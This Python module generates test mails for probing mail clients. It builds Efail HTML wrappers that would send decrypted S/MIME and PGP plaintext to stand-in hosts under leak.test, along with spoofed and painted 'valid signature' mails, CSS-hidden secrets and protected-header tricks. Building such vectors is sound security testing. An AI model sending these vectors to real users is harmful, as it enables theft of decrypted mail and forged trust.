"""Mails that pretend to be signed or encrypted, or use it against their reader: Efail (Poddebniak et al. 2018), Johnny, you are
fired (Müller et al. 2019), covert content (Müller et al. 2020), protected headers (RFC 9788), in each style one or more of our own.

What must never be handed on, shown as proven or quoted is the word SECRET; every address is one under leak.test.
"""

import base64
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from functools import cache

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import pkcs7
from cryptography.x509.oid import AuthorityInformationAccessOID, NameOID

SECRET = "SECRET-4711"
PGP = 'protocol="application/pgp-signature"; micalg=pgp-sha256'
SMIME = 'protocol="application/pkcs7-signature"; micalg=sha-256'
CIPHERTEXT = "hQEMA1LKmX5cJ8q8AQf/dummyciphertextdummyciphertext"
ARMOUR = f"-----BEGIN PGP MESSAGE-----\n\n{CIPHERTEXT}\n=abcd\n-----END PGP MESSAGE-----\n"
SIGNATURE = "-----BEGIN PGP SIGNATURE-----\n\niQEzBAEBCAAdFiEE\n=abcd\n-----END PGP SIGNATURE-----\n"
NOBODY = bytes.fromhex("300b06092a864886f70d010702")  # signed, it says
ENVELOPED = bytes.fromhex("3080") + bytes.fromhex("06092a864886f70d010703") + b"\xa0\x80" + b"\0" * 40


def part(kind: str, body: str | bytes = "", **fields: str) -> str:
    """A part of a mail; bytes go as base64."""
    head = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in fields.items())
    if isinstance(body, bytes):
        head += "Content-Transfer-Encoding: base64\r\n"
        body = base64.encodebytes(body).decode()
    return f"Content-Type: {kind}\r\n{head}\r\n{body}"


def several(kind: str, parts: Sequence[str], boundary: str = "b") -> str:
    inside = "".join(f"--{boundary}\r\n{one}\r\n" for one in parts)
    return part(f"{kind}; boundary={boundary}", f"{inside}--{boundary}--\r\n")


def mail(body: str, *, subject: str = "Order 4711", sender: str = "Anna Weber <anna@weber.example>", more: str = "") -> bytes:
    head = (
        f"From: {sender}\r\nTo: lina@example.com\r\nSubject: {subject}\r\nDate: Wed, 10 Jun 2026 10:42:00 +0200\r\n"
        f"Message-ID: <4711@weber.example>\r\nMIME-Version: 1.0\r\n{more}"
    )
    return (head + body).encode()


def html(words: str) -> str:
    return part("text/html; charset=utf-8", words)


def text(words: str = "Please confirm the order.") -> str:
    return part("text/plain; charset=utf-8", words)


@cache
def signed_by(name: str, *, opaque: bool, content: bytes = b"", expired: bool = False) -> bytes:
    """A real CMS signature by somebody whose certificate names addresses to be asked: of its issuer, of revocation."""
    key = ec.generate_private_key(ec.SECP256R1())
    said = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name), x509.NameAttribute(NameOID.EMAIL_ADDRESS, name)])
    access = [
        x509.AccessDescription(AuthorityInformationAccessOID.OCSP, x509.UniformResourceIdentifier("http://ocsp.leak.test/")),
        x509.AccessDescription(AuthorityInformationAccessOID.CA_ISSUERS, x509.UniformResourceIdentifier("http://aia.leak.test/ca")),
    ]
    points = [x509.DistributionPoint([x509.UniformResourceIdentifier("http://crl.leak.test/a.crl")], None, None, None)]
    made = (
        x509.CertificateBuilder()
        .subject_name(said)
        .issuer_name(said)
        .public_key(key.public_key())
        .serial_number(4711)
        .not_valid_before(datetime(2015, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2016 if expired else 2046, 1, 1, tzinfo=UTC))
        .add_extension(x509.AuthorityInformationAccess(access), critical=False)
        .add_extension(x509.CRLDistributionPoints(points), critical=False)
        .sign(key, hashes.SHA256())
    )
    options = [] if opaque else [pkcs7.PKCS7Options.DetachedSignature]
    builder = pkcs7.PKCS7SignatureBuilder().set_data(content or b"x").add_signer(made, key, hashes.SHA256())
    return builder.sign(serialization.Encoding.DER, [*options, pkcs7.PKCS7Options.Binary])


def signature(*, expired: bool = False) -> str:
    content = signed_by("anna@weber.example", opaque=False, expired=expired)
    named = 'application/pkcs7-signature; name="smime.p7s"'
    return part(named, content, Content_Disposition='attachment; filename="smime.p7s"')


def pgp_signature(body: str = SIGNATURE) -> str:
    return part('application/pgp-signature; name="signature.asc"', body)


def enveloped(content: bytes = ENVELOPED) -> str:
    return part('application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"', content)


def pgp_encrypted(body: str = ARMOUR, boundary: str = "e") -> str:
    control = part("application/pgp-encrypted", "Version: 1\r\n")
    inside = part('application/octet-stream; name="encrypted.asc"', body)
    return several('multipart/encrypted; protocol="application/pgp-encrypted"', [control, inside], boundary)


def opaque(content: str, **how: bool) -> str:
    made = signed_by("mallory@evil.example", opaque=True, content=content.encode(), **how)
    return part('application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"', made)


def vectors() -> Mapping[str, bytes]:
    """By style and name."""
    return {**_efail(), **_johnny(), **_covert(), **_headers(), **_broken()}


def _efail() -> dict[str, bytes]:
    def around(name: str, before: str, after: str, middle: str) -> bytes:
        host = f"http://{name}.leak.test/"
        return mail(several("multipart/mixed", [html(before.replace("HOST", host)), middle, html(after)]))

    return {
        "efail-direct-img": around("efail-direct-img", '<img src="HOST', '">', enveloped()),
        "efail-direct-single": around("efail-direct-single", "<img src='HOST", "'>", enveloped()),
        "efail-direct-link": around("efail-direct-link", '<link rel="stylesheet" href="HOST', '">', pgp_encrypted()),
        "efail-direct-form": around(
            "efail-direct-form", '<form action="HOST"><input name="a" value="', '"><button>OK</button></form>', pgp_encrypted()
        ),
        "efail-direct-style": around("efail-direct-style", "<style>p{background:url(HOST", ")}</style><p>x</p>", enveloped()),
        "efail-beside": mail(
            several("multipart/mixed", [html('<p>x</p><img src="http://beside.leak.test/a.png">'), pgp_encrypted()])
        ),
        "efail-gadget-smime": mail(enveloped(ENVELOPED + b'<img src="http://efail-gadget.leak.test/' * 4)),
        "efail-gadget-pgp": mail(pgp_encrypted(ARMOUR + '<img src="http://efail-gadget-pgp.leak.test/">')),
        "efail-backchannels": mail(
            several(
                f"multipart/signed; {SMIME}",
                [
                    html('<img src="http://signed-html.leak.test/a.png"><object data="http://object.leak.test/"></object>'),
                    signature(),
                ],
            ),
            more="Autocrypt: addr=anna@weber.example; keydata=http://autocrypt.leak.test/\r\n"
            "OpenPGP: id=4711; url=http://openpgp-header.leak.test/key.asc\r\nX-PGP-Key: http://x-pgp-key.leak.test/\r\n",
        ),
        "efail-external": mail(
            several(
                f"multipart/signed; {PGP}",
                [part('message/external-body; access-type=URL; URL="http://external.leak.test/"', "x"), pgp_signature()],
            )
        ),
    }


def _johnny() -> dict[str, bytes]:
    genuine = several(f"multipart/signed; {SMIME}", [text("I owe you nothing."), signature()], "g")
    hidden = several("multipart/related", [html('<p>Pay to the new account.</p><img src="cid:s" hidden>'), genuine], "r")
    fake = (
        '<div style="background:#E7F5EC;color:#2B7A4B;padding:8px">✔ Valid signature: anna@weber.example (verified)</div>'
        "<p>Pay to the new account.</p>"
    )
    return {
        "johnny-signed-smime": mail(genuine),
        "johnny-signed-pgp": mail(several(f"multipart/signed; {PGP}", [text(), pgp_signature()])),
        "johnny-opaque": mail(opaque(text("Signed by somebody else."))),
        "johnny-no-signer": mail(part('application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"', NOBODY)),
        "johnny-certificates": mail(part("application/pkcs7-mime; smime-type=certs-only", ENVELOPED)),
        "johnny-wrapped": mail(hidden),
        "johnny-prepended": mail(several("multipart/mixed", [text("Pay to the new account."), genuine])),
        "johnny-attached": mail(several("multipart/mixed", [text("Pay now."), part("message/rfc822", mail(genuine).decode())])),
        "johnny-twice": mail(several(f"multipart/signed; {SMIME}", [genuine, signature()], "o")),
        "johnny-two-senders": mail(genuine, sender="anna@weber.example, mallory@evil.example"),
        "johnny-name": mail(genuine, sender='"anna@weber.example" <mallory@evil.example>'),
        "johnny-sender": mail(genuine, sender="Anna Weber <mallory@evil.example>", more="Sender: anna@weber.example\r\n"),
        "johnny-painted": mail(html(fake)),
        "johnny-painted-signed": mail(several(f"multipart/signed; {PGP}", [html(fake), pgp_signature()])),
        "johnny-inline": mail(text(f"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nI agree.\n{SIGNATURE}")),
        "johnny-inline-part": mail(text(f"Pay now.\n\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nI agree.\n{SIGNATURE}")),
        "johnny-header": mail(text(), more="X-Signature-Status: verified\r\nX-PGP-Verified: yes\r\n"),
    }


def _covert() -> dict[str, bytes]:
    """Each hides a word that a stranger knows to stand in an old mail of the reader's, or its ciphertext."""

    def styled(rule: str, name: str = "x") -> bytes:
        return mail(html(f'<style>{rule}</style><p>How are you?</p><p class="{name}">{SECRET}</p>'))

    hidden = html(f'<div style="display:none">{SECRET}</div>')
    return {
        "covert-display": styled(".x{display:none}"),
        "covert-important": styled("p.x{display:none!important} .x{display:block}"),
        "covert-media": styled("@media screen{.x{visibility:hidden}}"),
        "covert-any-width": styled("@media (min-width:1px){.x{font-size:0}}"),
        "covert-child": styled("p:nth-of-type(2){opacity:0}"),
        "covert-ink": styled(".x{color:#fff}"),
        "covert-inline": mail(several("multipart/mixed", [text("How are you?"), hidden])),
        "covert-alternative": mail(several("multipart/alternative", [text("How are you?"), hidden])),
        "covert-subpart-smime": mail(several("multipart/mixed", [text("How are you?"), enveloped(ENVELOPED + SECRET.encode())])),
        "covert-subpart-pgp": mail(several("multipart/mixed", [text("How are you?"), pgp_encrypted(ARMOUR + SECRET)])),
        "covert-related": mail(
            several("multipart/related", [html('<p>How are you?</p><img src="cid:e">'), part("application/pkcs7-mime", ENVELOPED)])
        ),
        "covert-frame": mail(
            several(
                "multipart/related",
                [html('<p>How are you?</p><iframe src="cid:e"></iframe><object data="cid:e"></object>'),
                 part("text/html", f"<p>{SECRET}</p>", Content_ID="<e>", Content_Disposition="inline")],
            )
        ),
    }  # fmt: skip


def _headers() -> dict[str, bytes]:
    inner = "From: boss@example.test\r\nSubject: Urgent payment\r\n"
    hole = part('text/rfc822-headers; protected-headers="v1"', inner)
    protected = f'text/plain; protected-headers="v1"\r\n{inner.rstrip()}'
    return {
        "headers-signed": mail(several(f"multipart/signed; {PGP}", [part(protected, "Please pay."), pgp_signature()])),
        "headers-hp": mail(
            several(f"multipart/signed; {SMIME}", [part(f'text/plain; hp="clear"\r\n{inner.rstrip()}', "Please pay."), signature()])
        ),
        "headers-opaque": mail(opaque(part(protected, "Please pay."))),
        "headers-memory-hole": mail(
            several(
                f"multipart/signed; {PGP}",
                [several("multipart/mixed", [hole, text()], "m"), pgp_signature()],
            )
        ),
        "headers-unsigned": mail(several("multipart/mixed", [part(protected, "Please pay.")])),
        "headers-encrypted": mail(pgp_encrypted(), subject="..."),
    }  # fmt: skip


def _broken() -> dict[str, bytes]:
    return {
        "broken-one-part": mail(several(f"multipart/signed; {PGP}", [text()])),
        "broken-three-parts": mail(several(f"multipart/signed; {PGP}", [text(), pgp_signature(), text("more")])),
        "broken-order": mail(several(f"multipart/signed; {PGP}", [pgp_signature(), text()])),
        "broken-protocol": mail(several(f"multipart/signed; {SMIME}", [text(), pgp_signature()])),
        "broken-no-protocol": mail(several("multipart/signed", [text(), part("application/x-own-signature", "x")])),
        "broken-signature": mail(several(f"multipart/signed; {SMIME}", [text(), part("application/pkcs7-signature", b"x" * 40)])),
        "broken-expired": mail(several(f"multipart/signed; {SMIME}", [text(), signature(expired=True)])),
        "broken-loose": mail(several("multipart/mixed", [text(), signature()])),
        "broken-huge-signature": mail(several(f"multipart/signed; {PGP}", [text(), pgp_signature("x" * 300_000)])),
        "broken-container": mail(part("application/pkcs7-mime; smime-type=enveloped-data", b"\x30\x82")),
        "broken-encrypted": mail(several('multipart/encrypted; protocol="application/pgp-encrypted"', [text(ARMOUR)])),
        "broken-empty": mail(several(f"multipart/signed; {SMIME}", [])),
    }
